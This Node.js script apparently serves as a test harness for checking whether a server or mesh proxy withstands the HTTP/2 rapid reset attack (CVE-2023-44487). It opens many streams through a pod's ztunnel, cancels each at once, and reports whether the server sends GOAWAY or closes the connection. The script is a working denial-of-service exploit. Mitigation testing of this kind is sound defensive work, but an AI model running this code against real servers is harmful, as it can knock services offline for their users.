// HTTP/2 rapid reset (CVE-2023-44487) from a client pod: one h2c connection to TARGET through the pod's ztunnel that
// opens COUNT streams and cancels each at once. Usage: node rapid-reset.js POD_IP SOCKS_HOST:PORT TARGET_IP:PORT COUNT
// Prints {"sent":N,"goaway":code|null,"error":code|null,"ended":how,"clientClosed":bool} when the connection ends or
// after 15 s; clientClosed says the server never cut it and the client closed it 2 s after its last reset.
'use strict';
const http2 = require('http2');
const { relay } = require('./socks-relay');

const [podIp, socks, target, count] = process.argv.slice(2);
relay(podIp, socks, target, (address) => {
  const session = http2.connect(`http://${address}`);
  const result = { sent: 0, goaway: null, error: null, ended: null, clientClosed: false };
  let reported = false;
  const report = () => {
    if (!reported) {
      reported = true;
      console.log(JSON.stringify(result));
      process.exit(0);
    }
  };
  session.on('goaway', (code) => { result.goaway = code; });
  session.on('error', (e) => { result.error = e.code || e.message; });
  session.on('close', () => { result.ended = result.ended || 'closed'; report(); });
  session.socket && session.socket.on('end', () => { result.ended = 'socket-end'; });
  setTimeout(() => { result.ended = result.ended || 'timeout'; report(); }, 15000);
  session.on('connect', function burst() {
    // In batches, so the HEADERS and RST_STREAM frames go out rather than pile up in the client.
    for (let i = 0; i < 100 && result.sent < Number(count); i++) {
      if (session.closed || session.destroyed) {
        return;
      }
      try {
        const req = session.request({ ':path': `/reset/${result.sent}`, ':authority': target });
        req.on('error', () => {});
        req.close(http2.constants.NGHTTP2_CANCEL);
        result.sent++;
      } catch (e) {
        result.error = e.code || e.message;
        return;
      }
    }
    if (result.sent < Number(count)) {
      setImmediate(burst);
    } else {
      // The server has not cut the connection 2 s after the last reset: the client ends it itself, and says so.
      setTimeout(() => { result.clientClosed = true; session.close(); }, 2000);
    }
  });
});
